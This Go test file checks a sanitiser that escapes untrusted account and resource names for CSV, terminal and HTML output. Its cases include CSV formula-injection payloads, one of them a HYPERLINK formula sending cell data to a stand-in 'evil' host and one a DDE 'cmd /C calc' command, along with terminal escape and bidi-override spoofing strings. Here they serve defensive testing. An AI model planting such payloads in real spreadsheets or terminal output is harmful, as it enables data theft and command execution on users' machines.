package textsafe

import (
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/orgscan/orgscan/internal/hostiletext"
)

// Hostile is text a member account can put in an account name, a tag or a
// resource name, each aimed at one output kind.
var Hostile = hostiletext.Strings

func TestCSVCell(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil/?d="&A1,"open")`, `'=HYPERLINK("http://evil/?d="&A1,"open")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"-2+3", "'-2+3"},
		{"@SUM(1)", "'@SUM(1)"},
		{"\tTAB", "'\tTAB"},
		{"\rCR", "'\rCR"},
		{"", ""},
		{"prod-payments", "prod-payments"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"'=1", "'=1"},
		{"\xff=", "\xff="},
		{"日本", "日本"},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestTerminal(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"plain name", "plain name"},
		{"é 日本 😀 \uFFFD", "é 日本 😀 \uFFFD"},
		{`back\slash \x1b`, `back\slash \x1b`},
		{"\tTAB", `\tTAB`},
		{"\rCR", `\rCR`},
		{"a\nb\nc", `a\nb\nc`},
		{"\x1b[2J\x1b[H fake row", `\x1b[2J\x1b[H fake row`},
		{"\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", `\x1b]8;;http://evil\x1b\click\x1b]8;;\x1b\`},
		{"\u202eevil.exe", `\u202eevil.exe`},
		{"\xff\xfe", `\xff\xfe`},
		{"a\xc3", `a\xc3`},
		{"\x00\x07\x7f", `\x00\a\x7f`},
		{"\u0085\u009b31m", `\u0085\u009b31m`},
		{"\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c", `\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c`},
		{"zero\u200bwidth\ufeff\u2028\u2029", `zero\u200bwidth\ufeff\u2028\u2029`},
		{"tag\U000E0041", `tag\U000e0041`},
	} {
		if got := Terminal(tc.in); got != tc.want {
			t.Errorf("Terminal(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestHTMLTextKeepsHTMLWhitespace(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"a\tb\nc", "a\tb\nc"},
		{"a\r\nb", `a\r` + "\nb"},
		{"\x1b[31m\u202eexe.txt\u200b", `\x1b[31m\u202eexe.txt\u200b`},
		{"<b>&amp;</b>", "<b>&amp;</b>"},
		{"\xff", `\xff`},
	} {
		if got := HTMLText(tc.in); got != tc.want {
			t.Errorf("HTMLText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// Whatever the input, Terminal's output is valid UTF-8 on one line with
// no control, formatting or separator character, and keeps every other
// character; HTMLText's the same but for tab and line feed.
func FuzzHiddenCharactersNeverRemain(f *testing.F) {
	for _, s := range Hostile {
		f.Add(s)
	}
	f.Add("é 日本 😀 \u2028\u2029\ufeff\U000E0041 \uFFFD")
	f.Fuzz(func(t *testing.T, s string) {
		for name, out := range map[string]string{"Terminal": Terminal(s), "HTMLText": HTMLText(s)} {
			if !utf8.ValidString(out) {
				t.Fatalf("%s(%q) = %q: invalid UTF-8", name, s, out)
			}
			for _, r := range out {
				if name == "HTMLText" && (r == '\t' || r == '\n') {
					continue
				}
				if r < 0x20 || r == 0x7f || unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
					t.Fatalf("%s(%q) = %q keeps %U", name, s, out, r)
				}
			}
		}
		if strings.Count(Terminal(s), "\n") != 0 {
			t.Fatalf("Terminal(%q) spans lines", s)
		}
		// The escapes are Go's: unquoting gives s back, byte for byte
		// (backslashes and quotes aside, which are not escaped).
		if !strings.ContainsAny(s, `\"`) {
			if back, err := strconv.Unquote(`"` + Terminal(s) + `"`); err != nil || back != s {
				t.Fatalf("Terminal(%q) = %q unquotes to %q, %v", s, Terminal(s), back, err)
			}
		}
	})
}

func TestNothingToChangeReturnsTheSameString(t *testing.T) {
	s := strings.Repeat("prod-payments 日本 ", 10)
	if got := Terminal(s); got != s {
		t.Fatalf("Terminal changed %q", s)
	}
	if n := testing.AllocsPerRun(100, func() { Terminal(s); HTMLText(s); CSVCell(s) }); n != 0 {
		t.Errorf("%v allocations for text that needs no change", n)
	}
}
